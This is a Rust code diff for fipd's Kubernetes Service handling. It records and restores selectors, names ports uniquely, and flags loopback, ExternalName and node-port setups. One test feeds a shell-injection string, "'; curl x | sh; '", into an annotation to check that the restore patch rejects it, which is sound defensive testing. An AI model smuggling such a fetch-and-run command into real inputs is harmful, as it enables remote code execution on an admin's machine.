@@ -2,7 +2,7 @@
 
 use std::{
     collections::{BTreeMap, BTreeSet},
-    net::IpAddr,
+    net::{IpAddr, SocketAddr},
 };
 
 use fipd_crds::labels::{API_SERVICE, FIELD_MANAGER, MANAGED_BY};
@@ -19,6 +19,10 @@ use serde_json::{Value, json};
 pub const TLS_PORT: i32 = 8443;
 const PLAIN_PORT: i32 = 8080;
 const HTTPS: u16 = 443;
+const TCP: &str = "TCP";
+/// On the Service: the selector that fipd took off, and the ports that it had with it, as JSON.
+pub const TAKEN_OFF: &str = "fipd.io/selector";
+const PORTS_BEFORE: &str = "fipd.io/ports";
 
 /// How others reach the API on this host.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
@@ -27,6 +31,8 @@ pub struct Door {
     pub url: Option<String>,
     /// The port of a `[[listener]]` that serves it without TLS.
     pub plain: Option<u16>,
+    /// `[api] listen`.
+    pub listen: Option<SocketAddr>,
 }
 
 /// Where the name is to lead.
@@ -53,6 +59,14 @@ pub enum Wrong {
         "[api] advertise: {0:?} is this host to itself only; it must be an address that the cluster reaches"
     )]
     Loopback(String),
+    #[error(
+        "[api] advertise: {host} leads back to the Service that is to lead there: {how}; it must be a name or an address of this host itself"
+    )]
+    Circle { host: String, how: String },
+    #[error(
+        "the Service is of type ExternalName and leads to {0:?}: delete it, and fipd makes one that leads here"
+    )]
+    ExternalName(String),
 }
 
 impl Door {
@@ -66,6 +80,30 @@ impl Door {
         let host = host.trim_start_matches('[').trim_end_matches(']');
         Ok((host.to_owned(), uri.port_u16().unwrap_or(HTTPS)))
     }
+
+    /// Where the API listens, if nobody but this host reaches it there.
+    pub fn closed(&self) -> Option<SocketAddr> {
+        self.listen.filter(|address| address.ip().is_loopback())
+    }
+}
+
+/// What there is to be said of an address that only this host reaches.
+pub fn closed(listen: SocketAddr) -> String {
+    format!(
+        "fipd listens at {listen} only, which nobody but this host reaches: set [api] listen, unless something here passes \
+         the URL on to it"
+    )
+}
+
+/// The names by which pods reach the Service.
+pub fn names(namespace: &str) -> [String; 4] {
+    let full = format!("{API_SERVICE}.{namespace}");
+    [
+        format!("{full}.svc.cluster.local"),
+        format!("{full}.svc"),
+        full,
+        API_SERVICE.to_owned(),
+    ]
 }
 
 /// Where a host of these addresses is reached from a cluster.
@@ -93,22 +131,40 @@ pub fn want(
     })
 }
 
-/// What the ports of the Service are called: as they are, else by what they are. A Service with several must name them.
+/// What the ports of the Service are called: as they are, else by what they are, and never as another is. A Service with
+/// several must name them.
 pub fn port_names(found: Option<&Service>, want: &Want) -> BTreeMap<i32, String> {
     let ports = found.and_then(|found| found.spec.as_ref()?.ports.as_ref());
-    let named = |port: i32| {
-        let mut ports = ports.into_iter().flatten();
-        let found = ports.find(|one| one.port == port)?;
-        found.name.clone().filter(|name| !name.is_empty())
-    };
-    let usual = |port| if port == PLAIN_PORT { "http" } else { "https" };
-    let name = |port: &i32| {
-        (
-            *port,
-            named(*port).unwrap_or_else(|| usual(*port).to_owned()),
-        )
-    };
-    want.ports.keys().map(name).collect()
+    let ports = || ports.into_iter().flatten();
+    let name_of = |one: &ServicePort| one.name.clone().filter(|name| !name.is_empty());
+    let mut taken: BTreeSet<String> = ports().filter_map(name_of).collect();
+    let mut names = BTreeMap::new();
+    for port in want.ports.keys() {
+        let found = ports().find(|one| serves(one, *port)).and_then(name_of);
+        let name = found.unwrap_or_else(|| {
+            let usual = if *port == PLAIN_PORT { "http" } else { "https" };
+            free_name(usual, *port, &taken)
+        });
+        taken.insert(name.clone());
+        names.insert(*port, name);
+    }
+    names
+}
+
+fn free_name(usual: &str, port: i32, taken: &BTreeSet<String>) -> String {
+    let numbered = format!("{usual}-{port}");
+    let more = (2..).map(|count| format!("{usual}-{port}-{count}"));
+    let mut all = [usual.to_owned(), numbered].into_iter().chain(more);
+    all.find(|name| !taken.contains(name)).unwrap_or_default()
+}
+
+/// Whether it is this port. The API is asked by TCP.
+fn serves(one: &ServicePort, port: i32) -> bool {
+    one.port == port
+        && one
+            .protocol
+            .as_deref()
+            .is_none_or(|protocol| protocol == TCP)
 }
 
 /// A Service where there is none.
@@ -126,30 +182,96 @@ pub fn service(want: &Want) -> Value {
     })
 }
 
-/// What is to be changed of the Service that was read; `None`: nothing. Ports that are not served stay.
+/// What is to be changed of the Service that was read; `None`: nothing. Ports that are not served stay, and the selector
+/// that is taken off is noted.
 pub fn mend(found: &Service, want: &Want) -> Option<Value> {
     let spec = found.spec.clone().unwrap_or_default();
     let names = port_names(Some(found), want);
     let have = spec.ports.unwrap_or_default();
     let mut ports = Vec::new();
     for port in &have {
-        ports.push(match want.ports.get(&port.port) {
+        let to = want
+            .ports
+            .get(&port.port)
+            .filter(|_| serves(port, port.port));
+        ports.push(match to {
             Some(to) => wanted(port.port, *to, &names, Some(port)),
             None => port.clone(),
         });
     }
     for (port, to) in &want.ports {
-        if !have.iter().any(|one| one.port == *port) {
+        if !have.iter().any(|one| serves(one, *port)) {
             ports.push(wanted(*port, *to, &names, None));
         }
     }
-    let selects = spec.selector.is_some_and(|selector| !selector.is_empty());
-    (selects || ports != have).then(|| {
-        json!({
-            "metadata": { "uid": found.metadata.uid, "resourceVersion": found.metadata.resource_version },
-            "spec": { "selector": null, "ports": ports },
-        })
-    })
+    name_all(&mut ports);
+    let selector = spec.selector.filter(|selector| !selector.is_empty());
+    let mut metadata = json!({
+        "uid": found.metadata.uid, "resourceVersion": found.metadata.resource_version,
+    });
+    if let Some(selector) = &selector {
+        metadata["annotations"] = json!({
+            TAKEN_OFF: json!(selector).to_string(), PORTS_BEFORE: json!(have).to_string(),
+        });
+    }
+    (selector.is_some() || ports != have)
+        .then(|| json!({ "metadata": metadata, "spec": { "selector": null, "ports": ports } }))
+}
+
+/// Names those that have none, where there are several.
+fn name_all(ports: &mut [ServicePort]) {
+    if ports.len() < 2 {
+        return;
+    }
+    for one in ports {
+        let (port, protocol) = (one.port, one.protocol.as_deref().unwrap_or(TCP));
+        let own = format!("{}-{port}", protocol.to_ascii_lowercase());
+        let name = one.name.get_or_insert_default();
+        if name.is_empty() {
+            *name = own;
+        }
+    }
+}
+
+/// The selector that a Service has, or else the one that fipd took off, as JSON.
+pub fn selector(found: &Service) -> Result<String, Option<String>> {
+    let selector = found.spec.as_ref().and_then(|spec| spec.selector.as_ref());
+    match selector.filter(|selector| !selector.is_empty()) {
+        Some(selector) => Ok(json!(selector).to_string()),
+        None => {
+            let notes = found.metadata.annotations.as_ref();
+            Err(notes.and_then(|notes| notes.get(TAKEN_OFF)).cloned())
+        }
+    }
+}
+
+/// The merge patch by which the Service leads to the original again, for a shell between single quotes; `None`: what was
+/// noted is not what fipd notes.
+pub fn back(found: &Service) -> Option<String> {
+    let notes = found.metadata.annotations.as_ref()?;
+    let selector: BTreeMap<String, String> = serde_json::from_str(notes.get(TAKEN_OFF)?).ok()?;
+    let mut spec = json!({ "selector": selector });
+    if let Some(ports) = notes.get(PORTS_BEFORE) {
+        let ports: Vec<ServicePort> = serde_json::from_str(ports).ok()?;
+        spec["ports"] = json!(ports);
+    }
+    // Anybody who may change the Service may have written them, and an admin runs this.
+    Some(json!({ "spec": spec }).to_string()).filter(|patch| !patch.contains('\''))
+}
+
+/// The port of this host that the Service has as its node port: on a node it would lead back to the Service.
+pub fn node_port(found: &Service, want: &Want) -> Option<u16> {
+    let ports = found.spec.as_ref()?.ports.iter().flatten();
+    let nodes: BTreeSet<i32> = ports.filter_map(|one| one.node_port).collect();
+    let mut to = want.ports.values();
+    to.find(|to| nodes.contains(&i32::from(**to))).copied()
+}
+
+/// The name that a Service of type ExternalName leads to.
+pub fn external_name(found: &Service) -> Option<&str> {
+    let spec = found.spec.as_ref()?;
+    let external = spec.type_.as_deref() == Some("ExternalName");
+    external.then(|| spec.external_name.as_deref().unwrap_or_default())
 }
 
 fn wanted(
@@ -161,7 +283,7 @@ fn wanted(
     ServicePort {
         name: names.get(&port).cloned(),
         port,
-        protocol: Some("TCP".to_owned()),
+        protocol: Some(TCP.to_owned()),
         target_port: Some(IntOrString::Int(to.into())),
         ..have.cloned().unwrap_or_default()
     }
@@ -172,7 +294,7 @@ pub fn slices(want: &Want, names: &BTreeMap<i32, String>) -> [(String, Option<Va
     let ports: Vec<Value> = want
         .ports
         .iter()
-        .map(|(port, to)| json!({ "name": names.get(port), "port": to, "protocol": "TCP" }))
+        .map(|(port, to)| json!({ "name": names.get(port), "port": to, "protocol": TCP }))
         .collect();
     [("IPv4", true), ("IPv6", false)].map(|(family, v4)| {
         let name = format!("{API_SERVICE}-fipd-{}", family.to_lowercase());
@@ -253,6 +375,7 @@ mod tests {
         Door {
             url: Some(url.to_owned()),
             plain,
+            listen: None,
         }
     }
 
@@ -319,10 +442,47 @@ mod tests {
         }));
         let want = here(None);
         let change = mend(&found, &want).expect("a change");
+        let before = &found.spec.as_ref().expect("a spec").ports;
+        let noted = json!({
+            TAKEN_OFF: "{\"app\":\"rancher-fip-api-server\"}", PORTS_BEFORE: json!(before).to_string(),
+        });
         assert_eq!(
             change["metadata"],
-            json!({ "uid": "u", "resourceVersion": "7" })
+            json!({ "uid": "u", "resourceVersion": "7", "annotations": noted })
         );
+        assert_eq!(
+            selector(&found),
+            Ok("{\"app\":\"rancher-fip-api-server\"}".to_owned())
+        );
+        let mut taken = found.clone();
+        taken.metadata.annotations = serde_json::from_value(noted).expect("annotations");
+        taken.spec.as_mut().expect("a spec").selector = None;
+        let again = mend(&taken, &want).expect("its ports");
+        assert_eq!(
+            again["metadata"].get("annotations"),
+            None,
+            "what was noted stays"
+        );
+        assert_eq!(
+            selector(&taken),
+            Err(Some("{\"app\":\"rancher-fip-api-server\"}".into()))
+        );
+        let patch = back(&taken).expect("a way back");
+        let patch: Value = serde_json::from_str(&patch).expect("JSON");
+        let spec = json!({ "selector": { "app": API_SERVICE }, "ports": before });
+        assert_eq!(patch, json!({ "spec": spec }));
+        for other in ["{}}}'; curl x | sh; '", "{\"a\":\"'b\"}", "{\"a\":{}}"] {
+            let mut edited = taken.clone();
+            let notes = edited.metadata.annotations.get_or_insert_default();
+            notes.insert(TAKEN_OFF.to_owned(), other.to_owned());
+            assert_eq!(back(&edited), None, "{other}");
+        }
+        assert_eq!(node_port(&found, &want), None);
+        let on_node = Want {
+            ports: [(8443, 30001)].into(),
+            ..want.clone()
+        };
+        assert_eq!(node_port(&found, &on_node), Some(30001));
         assert_eq!(change["spec"]["selector"], Value::Null);
         assert_eq!(
             change["spec"]["ports"],
@@ -352,6 +512,67 @@ mod tests {
             ..want
         };
         assert_eq!(slices(&alone, &names)[1].1, None);
+    }
+
+    #[test]
+    fn ports_are_never_called_as_others_are_and_those_of_other_protocols_stay() {
+        let found = service_of(json!({
+            "metadata": { "name": API_SERVICE },
+            "spec": { "ports": [
+                { "name": "https", "port": 8080, "targetPort": 8080 },
+                { "port": 9000, "protocol": "TCP" },
+                { "name": "http", "port": 80 },
+                { "name": "quic", "port": 8443, "protocol": "UDP" },
+            ] },
+        }));
+        let change = mend(&found, &here(Some(9080))).expect("a change");
+        let ports = change["spec"]["ports"].as_array().expect("ports").iter();
+        let ports: Vec<_> = ports
+            .map(|one| json!([one["name"], one["port"], one["protocol"], one["targetPort"]]))
+            .collect();
+        assert_eq!(
+            ports,
+            [
+                json!(["https", 8080, "TCP", 9080]),
+                json!(["tcp-9000", 9000, "TCP", null]),
+                json!(["http", 80, null, null]),
+                json!(["quic", 8443, "UDP", null]),
+                json!(["https-8443", 8443, "TCP", 9443]),
+            ]
+        );
+        let after = service_of(json!({ "metadata": {}, "spec": change["spec"] }));
+        assert_eq!(mend(&after, &here(Some(9080))), None, "once is enough");
+        let names = port_names(Some(&found), &here(Some(9080)));
+        assert_eq!(names[&8443], "https-8443");
+    }
+
+    #[test]
+    fn a_service_that_is_a_name_only_is_told_of() {
+        let found =
+            service_of(json!({ "spec": { "type": "ExternalName", "externalName": "x.example" } }));
+        assert_eq!(external_name(&found), Some("x.example"));
+        assert_eq!(external_name(&service_of(service(&here(None)))), None);
+    }
+
+    #[test]
+    fn who_listens_for_this_host_alone_is_told() {
+        let at = |listen: &str| {
+            Door {
+                listen: listen.parse().ok(),
+                ..Door::default()
+            }
+            .closed()
+            .map(closed)
+        };
+        assert!(
+            at("127.0.0.1:8443").is_some_and(
+                |said| said.contains("127.0.0.1:8443") && said.contains("[api] listen")
+            )
+        );
+        assert_eq!(
+            (at("0.0.0.0:8443"), at("[::]:8443"), at("")),
+            (None, None, None)
+        );
     }
 
     #[test]
